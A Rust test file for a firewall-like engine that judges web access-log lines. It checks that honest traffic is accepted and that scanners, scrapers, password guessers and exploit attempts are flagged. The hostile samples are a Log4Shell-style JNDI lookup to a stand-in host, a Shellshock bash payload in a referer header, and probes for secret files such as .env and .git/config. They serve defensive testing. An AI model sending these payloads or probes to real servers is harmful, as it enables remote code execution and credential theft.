//! People and programs that mean no harm: the preset `web` accepts each of their requests.

use std::collections::BTreeMap;
use std::sync::Arc;

use judge::Action;

use crate::corpora::{corpus, engine};

/// The judgements of an address, by action, and the rules of the first that was not accepted.
#[derive(Default)]
pub(crate) struct Judged {
    pub(crate) actions: BTreeMap<String, usize>,
    pub(crate) first: Option<(usize, Action, Vec<String>)>,
}

/// Judges the lines of a log in their order, by address.
pub(crate) fn judged(log: &[u8]) -> BTreeMap<String, Judged> {
    let engine = engine("web");
    let pipeline = Arc::clone(&engine.plan().pipelines[0]);
    let mut found: BTreeMap<String, Judged> = BTreeMap::new();
    for (number, line) in log.split(|byte| *byte == b'\n').enumerate() {
        let Ok(event) = content::web::access_log::event(line) else { continue };
        let Some(ip) = event.get("client.ip").map(ToString::to_string) else { continue };
        let arrival = event.time.unwrap();
        let prepared = engine.prepare(&pipeline, event, arrival);
        let verdict = pollster::block_on(engine.decide(vec![prepared])).remove(0).verdict;
        let judged = found.entry(ip).or_default();
        *judged.actions.entry(verdict.action.to_string()).or_default() += 1;
        if verdict.action != Action::Accept && judged.first.is_none() {
            let rules = verdict.reasons.iter().map(|reason| reason.rule.clone()).collect();
            judged.first = Some((number + 1, verdict.action, rules));
        }
    }
    found
}

/// Clients that were not always accepted, with their actions and the first reason.
fn refused(judged: &BTreeMap<String, Judged>) -> Vec<String> {
    let said = |(ip, judged): (&String, &Judged)| {
        Some(format!("{ip} {:?}: {:?}", judged.actions, judged.first.as_ref()?))
    };
    judged.iter().filter_map(said).collect()
}

#[test]
fn who_means_no_harm_is_accepted() {
    let judged = judged(&corpus("honest.log"));
    let requests: usize = judged.values().flat_map(|judged| judged.actions.values()).sum();
    let wrong = refused(&judged);
    assert!(wrong.is_empty(), "{} of {} addresses: {wrong:#?}", wrong.len(), judged.len());
    assert!(requests > 4000 && judged.len() > 35, "{requests} requests of {} addresses", judged.len());
    println!("{requests} requests of {} addresses are accepted", judged.len());
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// A line of an address's log, this many seconds after nine.
fn line(second: usize, request: &str, status: u16, referer: &str, agent: &str) -> String {
    let (minute, second) = (second / 60, second % 60);
    let time = format!("17/May/2026:09:{minute:02}:{second:02} +0000");
    format!("192.0.2.7 - - [{time}] \"{request} HTTP/1.1\" {status} 900 \"{referer}\" \"{agent}\"\n")
}

/// Returns what is made of an address that sends these lines.
fn verdict(lines: &[String]) -> (BTreeMap<String, usize>, Vec<String>) {
    let judged = judged(lines.concat().as_bytes()).remove("192.0.2.7").unwrap();
    (judged.actions, judged.first.map(|(_, _, rules)| rules).unwrap_or_default())
}

#[test]
fn who_means_harm_is_not() {
    let check = |name: &str, lines: Vec<String>, action: &str, rule: &str| {
        let (actions, rules) = verdict(&lines);
        assert!(actions.contains_key(action), "{name}: {actions:?} by {rules:?}");
        assert!(rules.iter().any(|own| own == rule), "{name}: {rules:?}");
    };
    let one =
        |request: &str, status, referer: &str, agent: &str| vec![line(0, request, status, referer, agent)];
    check("a declared tool", one("GET /", 200, "-", "sqlmap/1.8"), "reject", "SCANNER");
    check("code in an agent", one("GET /", 200, "-", "${jndi:ldap://192.0.2.1/a}"), "challenge", "INJECTION");
    check(
        "code in a referer",
        one("GET /", 200, "() { :; }; /bin/bash -c id", BROWSER),
        "challenge",
        "INJECTION",
    );
    check("an exploit", one("GET /_ignition/execute-solution", 404, "-", BROWSER), "review", "EXPLOIT");
    let scraper = (0..200).map(|turn| line(turn / 2, &format!("GET /article/{turn}"), 200, "-", BROWSER));
    check("a scraper", scraper.collect(), "challenge", "SCRAPING");
    let guesser = (0..20).map(|turn| line(turn, "POST /login", 401, "https://example.org/login", BROWSER));
    check("a guesser", guesser.collect(), "review", "PASSWORD_GUESSING");
    let paths =
        ["/.env", "/wp-config.php.bak", "/.git/config", "/phpinfo.php", "/actuator/env", "/backup.zip"];
    let probes = |status| {
        paths
            .iter()
            .enumerate()
            .map(move |(turn, path)| line(turn, &format!("GET {path}"), status, "-", BROWSER))
    };
    check("a scanner", probes(404).collect(), "challenge", "PROBING");
    let (actions, _) = verdict(&probes(200).collect::<Vec<_>>());
    assert_eq!(actions.keys().collect::<Vec<_>>(), ["accept"], "what is there may be asked for");
    let (actions, _) = verdict(&vec![line(0, "GET /owa/", 404, "-", BROWSER); 20]);
    assert_eq!(actions.keys().collect::<Vec<_>>(), ["accept"], "one old bookmark is no scan");
}
